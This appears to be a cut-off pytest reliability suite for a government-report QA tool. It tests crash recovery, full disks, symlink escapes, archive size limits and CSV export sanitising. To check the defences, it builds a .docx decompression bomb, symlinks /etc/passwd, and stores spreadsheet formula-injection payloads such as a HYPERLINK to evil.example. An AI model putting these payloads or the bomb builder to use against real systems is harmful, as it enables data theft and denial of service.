"""Reliability: the failures issue 16 found, each turned into a test.

Milvus writes killed at random points, full and read-only disks, symlinks out of the corpus,
a .docx bomb, `k` out of range, caches cleared under concurrent readers, Big5 files.
"""

import contextlib
import json
import logging
import os
import random
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, build_lock_held

import qa
import qa.retrieval.index

pytestmark = pytest.mark.reliability

# ---------------------------------------------------------------- Milvus writes killed at random points

# Each run: report what the collection answers now (left by the last, maybe killed, write), then write
# the corpus again, SIGKILLing itself at the `kill_at`-th Milvus call (before it, during it or after it).
_MILVUS_CHILD = r"""
import json, os, random, signal, sys, threading
sys.path.insert(0, sys.argv[5])
from conftest import HashEmbedder
import qa, qa.retrieval.embedding
from qa.retrieval.index import BadIndex

model = HashEmbedder()
qa.retrieval.embedding.load_model = lambda name=None: model
qa.retrieval.embedding.question_encoder = lambda name=None: model.question
corpus, uri, kill_at, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
words = json.loads(sys.argv[6])
try:
    kb = qa.load(store="milvus", uri=uri)
    answers = {}
    for word in words:
        hits = kb.search(word + "调解员", 1, mode="bm25")
        answers[word] = [hits[0].source, hits[0].text] if hits else None
    seen = {"documents": sorted(d.source for d in kb.documents), "answers": answers}
except BadIndex as err:
    seen = {"error": str(err)}
print(json.dumps(seen, ensure_ascii=False), flush=True)

from pymilvus import MilvusClient
rng, calls = random.Random(seed), 0
def counted(real):
    def call(self, *args, **kwargs):
        global calls
        calls += 1
        if calls == kill_at:
            how = rng.choice(["before", "during", "after"])
            print(json.dumps({"kill": real.__name__, "how": how}), flush=True)
            if how == "before":
                os.kill(os.getpid(), signal.SIGKILL)
            if how == "during":
                threading.Timer(rng.uniform(0, 0.05), os.kill, (os.getpid(), signal.SIGKILL)).start()
            result = real(self, *args, **kwargs)
            if how == "after":
                os.kill(os.getpid(), signal.SIGKILL)
            return result
        return real(self, *args, **kwargs)
    return call
for name in ("insert", "create_collection", "drop_collection", "flush", "rename_collection", "load_collection",
             "create_alias", "alter_alias", "query_iterator", "query"):
    setattr(MilvusClient, name, counted(getattr(MilvusClient, name)))
qa.build(corpus, store="milvus", uri=uri, progress=False)
print(json.dumps({"calls": calls}), flush=True)
"""

_WORDS = ["蓝鲸", "白鹭", "金雕", "赤狐", "雪豹", "麋鹿", "青鸾"]  # the last one: a report saved twice
_DISTRICTS = ["甲", "乙", "丙", "丁", "戊", "己", "庚"]


def _report(word: str, district: str, figure: int) -> str:
    return (f"{district}区2022年法治政府建设情况报告\n一、主要工作\n"
            f"{district}区全年新增{word}调解员{figure}名。\n"
            f"二、依法行政\n{district}区行政复议机构接收案件{len(word) * 7}宗，办结{len(district) + 3}宗。\n"
            f"三、下一步\n{district}区将继续推进法治政府建设，完善{word}制度。\n")


def _expected(files: dict[str, str]) -> dict:
    """What a complete write of `files` answers: the documents, and for each word who may hold it and its figure."""
    import re

    holders: dict[str, tuple[set, str]] = {}
    for name, text in files.items():
        word, figure = re.search(r"新增(\w\w)调解员(\d+)名", text).groups()
        holders.setdefault(word, (set(), figure))[0].add(name)
    return {"documents": sorted(files), "holders": holders}


def _matches(seen: dict, expected: dict) -> bool:
    if seen.get("documents") != expected["documents"] or set(seen["answers"]) != set(_WORDS):
        return False
    for word in _WORDS:
        answer = seen["answers"][word]
        holders, figure = expected["holders"].get(word, (set(), None))
        if figure is None:
            if answer and word in answer[1]:
                return False
        elif not answer or answer[0] not in holders or f"{word}调解员{figure}名" not in answer[1]:
            return False
    return True


def test_milvus_writes_killed_at_random_points_leave_the_previous_reports_answering(tmp_path):
    """20 SIGKILLs during incremental writes: every time, the collection answers exactly as the
    last complete write left it (or as the killed write's own result, when the kill came after its switch)."""
    corpus, uri = tmp_path / "corpus", str(tmp_path / "m.db")
    corpus.mkdir()
    figures = {word: 10 + i for i, word in enumerate(_WORDS)}
    present = {word: True for word in _WORDS}
    pair = ("dup_a.txt", "dup_b.txt")

    def files() -> dict[str, str]:
        out = {f"{district}_{word}.txt": _report(word, district, figures[word])
               for word, district in zip(_WORDS[:-1], _DISTRICTS) if present[word]}
        for name in pair if present["青鸾"] else pair[1:]:
            out[name] = _report("青鸾", "庚", figures["青鸾"])
        return out

    def write_corpus() -> dict[str, str]:
        wanted = files()
        for path in corpus.iterdir():
            if path.name not in wanted:
                path.unlink()
        for name, text in wanted.items():
            if not (corpus / name).exists() or (corpus / name).read_text("utf-8") != text:
                (corpus / name).write_text(text, "utf-8")
        return wanted

    env = {**os.environ, "PYTHONPATH": str(ROOT), "HF_HUB_OFFLINE": "1"}
    history = []  # (kill point, where it fell), for failure messages

    def run(kill_at: int, seed: int):
        command = [sys.executable, "-c", _MILVUS_CHILD, str(corpus), uri, str(kill_at), str(seed),
                   str(ROOT / "tests"), json.dumps(_WORDS, ensure_ascii=False)]
        done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300)
        lines = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
        history.append((kill_at, [line for line in lines if "kill" in line]))
        if done.returncode not in (0, -signal.SIGKILL) or not lines:
            pytest.fail(f"write failed ({done.returncode}) after {history[-6:]}: {done.stderr[-6000:]}")
        return done.returncode == -signal.SIGKILL, [line for line in lines if "kill" not in line]

    complete = _expected(write_corpus())
    killed, lines = run(0, 0)
    assert not killed and "error" in lines[0]
    calls = lines[1]["calls"]
    rng = random.Random(16)
    possible = [complete]  # what the collection may answer now
    kills = rounds = 0
    while kills < 20:
        rounds += 1
        assert rounds < 60, "writes keep finishing before their kill point"
        change = rng.choice(["figure", "figure", "pair-original", "pair-figure", "delete-add"])
        if change == "figure":  # the case: one report changed
            word = rng.choice(_WORDS[:-1])
            figures[word] += 100
        elif change == "pair-original":  # the report kept of a pair goes (or comes back)
            present["青鸾"] = not present["青鸾"]
        elif change == "pair-figure":
            figures["青鸾"] += 100
        else:
            word = rng.choice(_WORDS[:-1])
            present[word] = not present[word]
        new = _expected(write_corpus())
        finish = rounds % 6 == 0  # now and then a write completes, so later kills start from new content
        killed, lines = run(0 if finish else rng.randint(1, calls), rng.randrange(1 << 30))
        seen = lines[0]
        assert any(_matches(seen, state) for state in possible), (history[-6:], seen, possible)
        complete = next(state for state in possible if _matches(seen, state))
        if killed:
            kills += 1
            possible = [complete, new]  # a kill after the alias switch leaves the new content
        else:
            calls = max(calls, lines[-1]["calls"])
            possible = [new]
    killed, lines = run(0, 0)
    assert any(_matches(lines[0], state) for state in possible)
    _, lines = run(0, 0)  # the last write's result, and nothing left of the killed ones
    assert _matches(lines[0], new), lines[0]
    print(f"{kills} kills in {rounds} rounds")


def test_milvus_takes_control_characters_in_names_and_huge_titles(tmp_path, fake_model):
    """A file name with \\x01 and a page title over 65,535 characters aborted the Milvus build; FAISS took both."""
    from conftest import HONGQIAO

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(HONGQIAO, corpus / "红桥\x01区.txt")
    (corpus / "long.html").write_text("<html><h1>Report " + "x" * 66_000 + "</h1><p>某区2022年新增蓝鲸调解员77名。</p>"
                                      "</html>", "utf-8")  # a title of 66,007 characters
    kb = qa.build(corpus, store="milvus", uri=str(tmp_path / "m.db"), progress=False)
    assert sorted(d.source for d in kb.documents) == ["long.html", "红桥\x01区.txt"]
    assert kb.search("行政复议维持多少宗", 1, doc="红桥\x01区.txt")[0].source == "红桥\x01区.txt"
    assert kb.ask("新增蓝鲸调解员多少名").figure == "77名"
    assert next(d for d in kb.documents if d.source == "long.html").title.startswith("Report xxx")
    faiss_kb = qa.build(corpus, tmp_path / "index", progress=False)
    assert len(faiss_kb) == len(kb)


def test_milvus_out_of_space_is_one_line_and_leaves_no_collections(tmp_path, fake_model, hongqiao_corpus,
                                                                     monkeypatch):
    """Issue 24: Milvus Lite on a full disk gave an 89-line traceback ending `MilvusException … No space left on
    device`, and left the half-written generation until the next write that completed. Now the failed write's
    collections are dropped at once and the error is one line, as for FAISS; the previous generation answers."""
    from pymilvus import MilvusClient, MilvusException

    from qa.retrieval.index import IndexUnwritable
    from qa.retrieval.milvus_store import _generations, connect

    uri = str(tmp_path / "m.db")
    passages = len(qa.build(hongqiao_corpus, store="milvus", uri=uri, progress=False))
    before = _generations(connect(uri), "reports")
    (hongqiao_corpus / "extra.txt").write_text("一、新增\n行政复议维持99宗。", "utf-8")
    insert = MilvusClient.insert

    def full(self, collection_name, *args, **kwargs):
        if "_passages" in collection_name:  # the new report's passages: the disk fills up
            raise MilvusException(code=65535, message="failed to write segment: No space left on device")
        return insert(self, collection_name, *args, **kwargs)

    monkeypatch.setattr(MilvusClient, "insert", full)
    with pytest.raises(IndexUnwritable, match=r"^the disk holding .*m.db is full: [\d.]+ MB free; free some space "
                                              r"or pass --milvus-uri on another disk \(the previous collection"):
        qa.build(hongqiao_corpus, store="milvus", uri=uri, progress=False)
    assert _generations(connect(uri), "reports") == before  # no leftovers of the failed write
    kb = qa.load(store="milvus", uri=uri)
    assert [d.source for d in kb.documents] == ["hongqiao_2022_fazhi_zhengfu_report.txt"] and len(kb) == passages
    monkeypatch.setattr(MilvusClient, "insert", insert)
    assert len(qa.build(hongqiao_corpus, store="milvus", uri=uri, progress=False).documents) == 2


# ---------------------------------------------------------------- full disks, read-only and locked folders

@pytest.fixture
def tiny_disk(tmp_path):
    """A 1 MB tmpfs mounted for the test (root only); skipped where mounting is not allowed."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)], capture_output=True)
    if done.returncode:
        pytest.skip(f"cannot mount a tmpfs here ({done.stderr.decode().strip()}); the injected failures still run")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=True)


def _big_report(path, lines: int) -> None:
    path.write_text("某区2022年统计公报\n一、综合\n" + "\n".join(
        f"第{i}项指标全年完成{i * 13}万元，同比增长{i % 17}个百分点，涉及{i % 9}个街道。" for i in range(lines)), "utf-8")


def _unfinished(index) -> list[str]:
    return sorted(p.name for p in index.iterdir() if p.is_dir() and p.name.startswith(".gen-"))


def test_a_full_disk_is_one_line_leaves_nothing_and_the_old_index_answers(tiny_disk, fake_model, hongqiao_corpus,
                                                                           caplog, monkeypatch):
    from qa.retrieval.index import IndexUnwritable, current_generation

    index = tiny_disk / "index"
    qa.build(hongqiao_corpus, index, progress=False)
    before = current_generation(index)
    _big_report(hongqiao_corpus / "big.txt", 8000)  # about 700 KB of text: more than the disk holds
    # The size check before writing, then the disk really filling up (the check switched off).
    checked = qa.retrieval.index._check_space

    def estimate_only(*args):  # the estimate is made, the refusal skipped: the write itself fills the disk
        with contextlib.suppress(IndexUnwritable):
            checked(*args)

    for check in (True, False):
        if not check:
            monkeypatch.setattr(qa.retrieval.index, "_check_space", estimate_only)
        with pytest.raises(IndexUnwritable) as failed:
            qa.build(hongqiao_corpus, index, progress=False)
        message = str(failed.value)
        assert "\n" not in message and str(index) in message and "MB needed" in message and "MB free" in message
        assert _unfinished(index) == [] and current_generation(index) == before
        assert [p.name for p in index.iterdir() if p.is_dir()] == [before.name]
    with caplog.at_level(logging.WARNING, logger="qa"):
        kb = qa.load(index, corpus=hongqiao_corpus, rebuild=True)  # what qa.search and app.py do at startup
    assert "is stale" in caplog.text and "last complete build" in caplog.text
    assert kb.ask("行政复议维持多少宗").figure == "13宗"
    (hongqiao_corpus / "big.txt").unlink()
    _big_report(hongqiao_corpus / "small.txt", 100)  # once the report that did not fit goes, builds work again
    assert len(qa.build(hongqiao_corpus, index, progress=False).documents) == 2


def test_a_full_disk_when_faiss_writes_is_one_line_and_cleaned_up(fake_model, hongqiao_corpus, tmp_path, monkeypatch):
    """The same with the failure injected where no tmpfs can be mounted: faiss's own disk-full error."""
    import faiss

    from qa.retrieval.index import IndexUnwritable, current_generation

    index = tmp_path / "index"
    qa.build(hongqiao_corpus, index, progress=False)
    before = current_generation(index)
    (hongqiao_corpus / "extra.txt").write_text("一、新增\n行政复议维持99宗。", "utf-8")

    def full(dense, path):
        open(path, "wb").write(b"\0" * 100)
        raise RuntimeError(f"Error in faiss::write_index: write error in {path}: 100 != 51200 (No space left on device)")

    monkeypatch.setattr(faiss, "write_index", full)
    with pytest.raises(IndexUnwritable, match=r"^the disk holding .*index/ is full: about [\d.]+ MB needed"):
        qa.build(hongqiao_corpus, index, progress=False)
    assert _unfinished(index) == [] and current_generation(index) == before

    from qa.cli import main

    assert main(["build", "--corpus", str(hongqiao_corpus), "--index", str(index)]) == 2


def test_a_read_only_index_answers_stale_with_a_warning(tiny_disk, fake_model, hongqiao_corpus, caplog, capsys):
    from qa.cli import main
    from qa.retrieval.index import IndexUnwritable

    index = tiny_disk / "index"
    qa.build(hongqiao_corpus, index, progress=False)
    (hongqiao_corpus / "extra.txt").write_text("一、新增\n行政复议维持99宗。", "utf-8")
    subprocess.run(["mount", "-o", "remount,ro", str(tiny_disk)], check=True)
    with pytest.raises(IndexUnwritable, match="read-only file system.*pass --index"):
        qa.build(hongqiao_corpus, index, progress=False)
    assert main(["build", "--corpus", str(hongqiao_corpus), "--index", str(index)]) == 2
    assert capsys.readouterr().err.count("\n") == 1
    with caplog.at_level(logging.WARNING, logger="qa"):
        kb = qa.load(index, corpus=hongqiao_corpus, rebuild=True)
    assert "is stale" in caplog.text and "extra.txt" in caplog.text
    assert len(kb.documents) == 1 and kb.ask("行政复议维持多少宗").figure == "13宗"


def test_a_read_only_folder_injected(fake_model, hongqiao_corpus, tmp_path, monkeypatch, caplog):
    """EROFS injected where the lock file is opened, for machines where no tmpfs can be mounted."""
    import builtins
    import errno

    from qa.retrieval.index import IndexUnwritable

    index = tmp_path / "index"
    qa.build(hongqiao_corpus, index, progress=False)
    (hongqiao_corpus / "extra.txt").write_text("一、新增\n行政复议维持99宗。", "utf-8")
    real_open = builtins.open

    def read_only(path, mode="r", *args, **kwargs):
        if str(path).startswith(str(index)) and any(m in mode for m in "wax+"):
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, mode, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", read_only)
    with pytest.raises(IndexUnwritable, match="read-only"):
        qa.build(hongqiao_corpus, index, progress=False)
    with caplog.at_level(logging.WARNING, logger="qa"):
        kb = qa.load(index, corpus=hongqiao_corpus, rebuild=True)
    assert "is stale" in caplog.text and len(kb.documents) == 1


def test_startup_while_a_build_holds_the_lock_answers_from_the_last_build(fake_model, hongqiao_corpus, tmp_path,
                                                                          caplog):
    index = tmp_path / "index"
    qa.build(hongqiao_corpus, index, progress=False)
    (hongqiao_corpus / "extra.txt").write_text("一、新增\n行政复议维持99宗。", "utf-8")
    with build_lock_held(index):  # another build, holding the folder
        with caplog.at_level(logging.WARNING, logger="qa"):
            kb = qa.load(index, corpus=hongqiao_corpus, rebuild=True)
        assert "another build is writing" in caplog.text and "last complete build" in caplog.text
        assert len(kb.documents) == 1 and kb.ask("行政复议维持多少宗").figure == "13宗"


# ---------------------------------------------------------------- corpus boundaries

@pytest.fixture
def linked_corpus(tmp_path, hongqiao_corpus):
    """The Hongqiao corpus plus links: to /etc/passwd, to a secret outside the corpus, to a report inside."""
    secret = tmp_path / "secret.txt"
    secret.write_text("一、机密\n内部口令是蓝鲸七七。", "utf-8")
    (hongqiao_corpus / "passwd.txt").symlink_to("/etc/passwd")
    (hongqiao_corpus / "secret.txt").symlink_to(secret)
    (hongqiao_corpus / "inside").mkdir()
    (hongqiao_corpus / "inside" / "copy.txt").symlink_to(hongqiao_corpus / "hongqiao_2022_fazhi_zhengfu_report.txt")
    (hongqiao_corpus / "outside_folder").symlink_to(tmp_path, target_is_directory=True)
    return hongqiao_corpus


def test_symlinks_are_skipped_with_a_warning(linked_corpus, fake_model, tmp_path, caplog):
    from qa.reading.corpus import corpus_files

    with caplog.at_level(logging.WARNING, logger="qa"):
        kb = qa.build(linked_corpus, tmp_path / "index", progress=False)
    assert [d.source for d in kb.documents] == ["hongqiao_2022_fazhi_zhengfu_report.txt"]
    assert "passwd.txt: a symbolic link" in caplog.text and "--follow-symlinks" in caplog.text
    assert not [h for h in kb.search("root 口令 蓝鲸七七", 20, mode="bm25") if "蓝鲸七七" in h.text or "root" in h.text]
    followed = [p.relative_to(linked_corpus).as_posix() for p in corpus_files(linked_corpus, follow_symlinks=True)]
    # Followed only inside the corpus: never /etc/passwd, the secret, or a linked folder.
    assert followed == ["hongqiao_2022_fazhi_zhengfu_report.txt", "inside/copy.txt"]


def test_cli_follow_symlinks_reads_links_inside_the_corpus_only(linked_corpus, fake_model, tmp_path, monkeypatch,
                                                                capsys):
    from qa.cli import main

    monkeypatch.delenv("QA_FOLLOW_SYMLINKS", raising=False)
    assert main(["build", "--corpus", str(linked_corpus), "--index", str(tmp_path / "index"),
                 "--follow-symlinks"]) == 0
    assert os.environ.pop("QA_FOLLOW_SYMLINKS") == "1"
    out = capsys.readouterr().out
    assert "indexed 2 documents" in out and "inside/copy.txt" in out and "passwd" not in out and "secret" not in out


def test_add_refuses_a_different_report_of_the_same_name(fake_model, hongqiao_corpus, tmp_path, capsys):
    from qa.cli import main
    from qa.retrieval.index import current_generation

    index = tmp_path / "index"
    qa.build(hongqiao_corpus, index, progress=False)
    original = hongqiao_corpus / "hongqiao_2022_fazhi_zhengfu_report.txt"
    other = tmp_path / "elsewhere" / original.name
    other.parent.mkdir()
    other.write_text("某区2022年法治政府建设情况报告\n一、复议\n行政复议维持99宗。", "utf-8")
    with pytest.raises(FileExistsError, match="different report of the same name.*--replace"):
        qa.add([other], corpus=hongqiao_corpus, index=index)
    assert main(["add", str(other), "--corpus", str(hongqiao_corpus), "--index", str(index)]) == 2
    assert "--replace" in capsys.readouterr().err
    assert "维持13宗" in original.read_text("utf-8")

    # The same file, or the same content under another name: nothing to do, the index is not rebuilt.
    generation = current_generation(index)
    twin = tmp_path / "twin.txt"
    shutil.copy(original, twin)
    for same in (original, twin):
        kb = qa.add([same], corpus=hongqiao_corpus, index=index)
        assert len(kb.documents) == 1 and current_generation(index) == generation
    assert sorted(p.name for p in hongqiao_corpus.iterdir()) == [original.name]

    kb = qa.add([other], corpus=hongqiao_corpus, index=index, replace=True)
    assert kb.ask("行政复议维持多少宗").figure == "99宗"
    other.write_text("某区2022年法治政府建设情况报告\n一、复议\n行政复议维持98宗。", "utf-8")
    assert main(["add", str(other), "--corpus", str(hongqiao_corpus), "--index", str(index), "--replace"]) == 0
    assert "维持98宗" in original.read_text("utf-8")


# ---------------------------------------------------------------- files rewritten during a build

def _rewrite_in_place(path, data: bytes, cut: int) -> None:
    """What an editor saving in place does: truncate, write a first part, then the rest."""
    with open(path, "r+b") as handle:
        handle.truncate(0)
        handle.write(data[:cut])
        handle.flush()
        handle.write(data[cut:])


def test_a_report_rewritten_during_a_build_is_never_kept_in_part(fake_model, hongqiao_corpus, tmp_path, monkeypatch):
    """Issue 24: the build hashed one read of a file and parsed another. A writer rewriting it in place (same
    content) between the two left a third of the report in the index under the whole file's hash, so no later
    build repaired it. Now the hash recorded is of the bytes parsed: the next build sees the difference."""
    from conftest import DATA

    from qa.reading.corpus import read_document

    shutil.copy(DATA / "liwan_2022_excerpt.txt", hongqiao_corpus)  # a report that stays: the corpus is never empty
    report = hongqiao_corpus / "hongqiao_2022_fazhi_zhengfu_report.txt"
    whole = report.read_bytes()
    third = whole.index(b"\n", len(whole) // 3)
    expected = read_document(report, hongqiao_corpus).text
    real_state = qa.retrieval.index.corpus_state

    def hashed_then_rewritten(corpus):
        state = real_state(corpus)
        report.write_bytes(whole[:third])  # the writer has truncated the file and written a third of it
        return state

    monkeypatch.setattr(qa.retrieval.index, "corpus_state", hashed_then_rewritten)
    qa.build(hongqiao_corpus, tmp_path / "index", progress=False)
    monkeypatch.setattr(qa.retrieval.index, "corpus_state", real_state)
    report.write_bytes(whole)  # the writer is done: the very bytes the build hashed
    kb = qa.load(tmp_path / "index", corpus=hongqiao_corpus, rebuild=True)
    assert _text(kb, report.name) == expected

    # The race itself, 20 times: a writer rewrites the file in place, again and again, while the build reads it
    # (an empty file, a third, the whole). Whatever the build read, once the writer stops the index holds the
    # whole report or knows it is stale. The writer's pause only lets the build see the whole file now and then
    # (with it the old code kept a partial report about 1 run in 15); the assertion holds for every interleaving.
    import threading

    for run in range(20):
        stop = threading.Event()

        def writer():
            while not stop.is_set():
                _rewrite_in_place(report, whole, third)
                stop.wait(0.001)

        thread = threading.Thread(target=writer)
        thread.start()
        try:
            qa.build(hongqiao_corpus, tmp_path / f"race-{run}", progress=False)
        finally:
            stop.set()
            thread.join()
        kb = qa.load(tmp_path / f"race-{run}", corpus=hongqiao_corpus, rebuild=True)
        assert _text(kb, report.name) == expected, f"run {run}: the index kept part of the report"


def _text(kb, source: str) -> str:
    return next((d.text for d in kb.documents if d.source == source), "")


# ---------------------------------------------------------------- input limits

def _bomb(path, megabytes: int) -> None:
    """A .docx whose document.xml unpacks to `megabytes` MB of XML from a file of a few hundred KB."""
    import zipfile

    paragraph = b"<w:p><w:r><w:t>" + "行政复议维持13宗。".encode() * 20 + b"</w:t></w:r></w:p>"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as xml:
            xml.write(b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
            block = paragraph * (1_000_000 // len(paragraph) + 1)
            for _ in range(megabytes):
                xml.write(block)
            xml.write(b"</w:body></w:document>")


def test_a_docx_bomb_is_refused_before_it_is_unpacked(tmp_path, monkeypatch):
    from qa.reading.document import UnreadableError
    from qa.reading.limits import check_archive

    bomb = tmp_path / "bomb.docx"
    _bomb(bomb, 60)
    assert bomb.stat().st_size < 2_000_000
    with pytest.raises(UnreadableError, match=r"bomb.docx: its part word/document.xml unpacks to 6\d MB, over the "
                                              r"limit of 50 MB a part; set QA_MAX_PART_MB"):
        check_archive(bomb, max_ratio=1000)
    with pytest.raises(UnreadableError, match=r"bomb.docx: its part word/document.xml unpacks to 6\d MB from "
                                              r"[\d.]+ MB, over 100 times its packed size"):
        check_archive(bomb, max_part_mb=100)
    from qa.reading.corpus import read_document

    with pytest.raises(UnreadableError, match="over"):  # the reader asks before it unpacks
        read_document(bomb, tmp_path)
    check_archive(bomb, max_part_mb=100, max_ratio=1000)  # the limits are configurable
    monkeypatch.setenv("QA_MAX_PART_MB", "100")
    monkeypatch.setenv("QA_MAX_RATIO", "1000")
    check_archive(bomb)
    (tmp_path / "broken.docx").write_bytes(b"PK\x03\x04 not really")
    with pytest.raises(UnreadableError, match="not a readable .docx"):
        check_archive(tmp_path / "broken.docx")


def _docx_with_image(path, image_bytes: int) -> None:
    """A real .docx (python-docx) whose picture part is a 1×1 PNG followed by `image_bytes` zero bytes: the
    picture is linked, so python-docx loads the whole part, and zeros deflate to almost nothing."""
    import io

    import docx
    from PIL import Image

    png = io.BytesIO()
    Image.new("RGB", (1, 1)).save(png, format="PNG")
    document = docx.Document()
    document.add_paragraph("某区2022年报告")
    document.add_paragraph("行政复议维持13宗。")
    document.add_picture(io.BytesIO(png.getvalue() + bytes(image_bytes)))
    document.save(str(path))


def test_every_part_of_a_docx_counts_any_name_any_case(tmp_path, monkeypatch):
    """Issue 24: only parts named *.xml/*.rels were counted, so a 1 MB .docx holding a 1 GB picture was read
    (peak 1.9 GB), and `document.XML` passed too. Every part counts now, against a total, a per-part and a
    compression-ratio limit; the limits are lowered here so that the parts stay a few megabytes."""
    import zipfile

    from qa.reading.corpus import read_document
    from qa.reading.document import UnreadableError
    from qa.reading.limits import check_archive

    picture = tmp_path / "picture.docx"
    _docx_with_image(picture, 3_000_000)
    assert picture.stat().st_size < 100_000
    with pytest.raises(UnreadableError, match=r"^picture.docx: its part word/media/image1.png unpacks to 3 MB from "
                                              r"0.00 MB, over 100 times its packed size .*set QA_MAX_RATIO"):
        check_archive(picture)
    with pytest.raises(UnreadableError, match="over 100 times"):  # the reader asks before python-docx opens it
        read_document(picture, tmp_path)
    monkeypatch.setenv("QA_MAX_RATIO", "1000000")
    monkeypatch.setenv("QA_MAX_PART_MB", "2")
    with pytest.raises(UnreadableError, match=r"image1.png unpacks to 3 MB, over the limit of 2 MB a part; "
                                              r"set QA_MAX_PART_MB"):
        check_archive(picture)
    monkeypatch.setenv("QA_MAX_PART_MB", "50")
    monkeypatch.setenv("QA_MAX_UNPACKED_MB", "2")
    with pytest.raises(UnreadableError, match=r"picture.docx: unpacks to \d MB, over the limit of 2 MB; "
                                              r"set QA_MAX_UNPACKED_MB"):
        check_archive(picture)
    # Upper-case names count too: a 3 MB `word/document.XML` beside the real one.
    with zipfile.ZipFile(picture, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.XML", b"<w:t/>" * 500_000)
    monkeypatch.setenv("QA_MAX_UNPACKED_MB", "6")
    with pytest.raises(UnreadableError, match=r"unpacks to [67] MB, over the limit of 6 MB"):
        check_archive(picture)
    # Within the limits the report is read, picture and all (it is never decoded).
    monkeypatch.setenv("QA_MAX_UNPACKED_MB", "10")
    assert "维持13宗" in read_document(picture, tmp_path).text


def test_pdf_page_limit(tmp_path, monkeypatch):
    from pypdf import PdfWriter

    from qa.reading.document import UnreadableError
    from qa.reading.limits import check_archive

    writer = PdfWriter()
    for _ in range(12):
        writer.add_blank_page(width=200, height=200)
    with open(tmp_path / "long.pdf", "wb") as out:
        writer.write(out)
    check_archive(tmp_path / "long.pdf")  # 12 pages, under the default 500
    monkeypatch.setenv("QA_MAX_PAGES", "10")
    with pytest.raises(UnreadableError, match="long.pdf: 12 pages, over the limit of 10; set QA_MAX_PAGES"):
        check_archive(tmp_path / "long.pdf")
    check_archive(tmp_path / "report.txt")  # other formats pass unread


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


def test_csv_exports_never_hold_a_formula(tmp_path, capsys):
    """Issue 24: `qa feedback --csv` and `qa figures --csv` wrote cells starting with = + - @ unchanged, so a
    spreadsheet opening the file ran `=HYPERLINK(…)`. Such cells now start with a ' (OWASP); the test reads the
    CSV back as a spreadsheet would and looks at every cell."""
    import csv
    import io

    from qa.app.feedback import Feedback
    from qa.cli import main

    report = tmp_path / "formulas.txt"
    report.write_text("某区2022年报告\n一、=HYPERLINK(\"http://evil.example\",\"章节\")\n"
                      '=HYPERLINK("http://evil.example","点击")全年办理案件13件。\n'
                      "-2+3名调解员全年新增7名。\n@SUM(A1)行政复议维持9宗。\n", "utf-8")
    feedback = Feedback(tmp_path / "index" / "feedback.sqlite3")
    for text in FORMULAS:
        feedback.add(rating="up", question=text, answer=text, source=text)
    exports = []
    for command in (["figures", str(report), "--csv"], ["feedback", "--index", str(tmp_path / "index"), "--csv"]):
        assert main(command) == 0
        exports.append(list(csv.reader(io.StringIO(capsys.readouterr().out))))
    figures, ratings = exports
    cells = [c for rows in exports for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(c.startswith("'=HYPERLINK") for row in figures for c in row)  # the report's text is there, inert
    assert {row[2] for row in ratings[1:]} == {"'" + text for text in FORMULAS}
    assert ["9宗" in row for row in figures].count(True) == 1  # figures themselves are untouched


@pytest.mark.parametrize("k", [0, -1, 101, 1_000_000_000, 2.5, "5", None, True])
def test_k_out_of_range_is_a_clear_error_everywhere(k, fake_model, hongqiao_corpus, tmp_path):
    from qa.reading.limits import check_k

    with pytest.raises(ValueError, match="k must be"):
        check_k(k)
    kb = qa.build(hongqiao_corpus, tmp_path / "index", progress=False)
    with pytest.raises(ValueError, match="k must be"):
        kb.search("行政复议维持多少宗", k)
    with pytest.raises(ValueError, match="k must be"):
        kb.ask("行政复议维持多少宗", k=k)
    with pytest.raises(ValueError, match="k must be"):
        qa.search("行政复议维持多少宗", k)  # refused before the default index is even loaded


def test_k_bounds_and_the_cli(fake_model, hongqiao_corpus, tmp_path, capsys):
    from qa.cli import main
    from qa.reading.limits import check_k

    assert [check_k(k) for k in (1, 5, 100)] == [1, 5, 100]
    index = tmp_path / "index"
    kb = qa.build(hongqiao_corpus, index, progress=False)
    assert len(kb.search("行政复议", 100)) == min(100, len(kb))
    for bad in ("-1", "0", "101", "abc"):
        with pytest.raises(SystemExit) as exited:
            main(["search", "行政复议", "--index", str(index), "-k", bad])
        assert exited.value.code == 2 and "k must be" in capsys.readouterr().err
    assert main(["search", "行政复议", "--index", str(index), "-k", "3", "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)) == 3


def test_milvus_refuses_a_huge_k_before_allocating(tmp_path, fake_model, hongqiao_corpus):
    kb = qa.build(hongqiao_corpus, store="milvus", uri=str(tmp_path / "m.db"), progress=False)
    with pytest.raises(ValueError, match="k must be from 1 to 100, not 1000000000"):
        kb.search("行政复议", 1_000_000_000)


# ---------------------------------------------------------------- caches under concurrent readers

def test_caches_cleared_and_evicted_under_many_threads(fake_model, hongqiao_corpus, tmp_path):
    """16 threads search while the caches hold 8 entries (so they evict constantly) and another thread clears
    them. The old dict-and-clear code (its limit set to 8) failed this loop with KeyError 416 times in 4,800."""
    import threading

    from qa.retrieval.cache import BoundedCache

    kb = qa.build(hongqiao_corpus, tmp_path / "index", progress=False)
    kb._known, kb._frequencies = BoundedCache(8), BoundedCache(8)
    queries = ["行政复议维持多少宗", "法治政府建设", "红桥区2022年", "行政诉讼案件", "依法行政 规范性文件",
               "复议 撤销 驳回", "政务公开", "执法人员培训"]
    expected = {q: kb.search(q, 3, mode="bm25") for q in queries}
    errors, done, stop = [], [0], threading.Event()

    def search(seed: int):
        rng = random.Random(seed)
        try:
            for _ in range(300):
                query = rng.choice(queries)
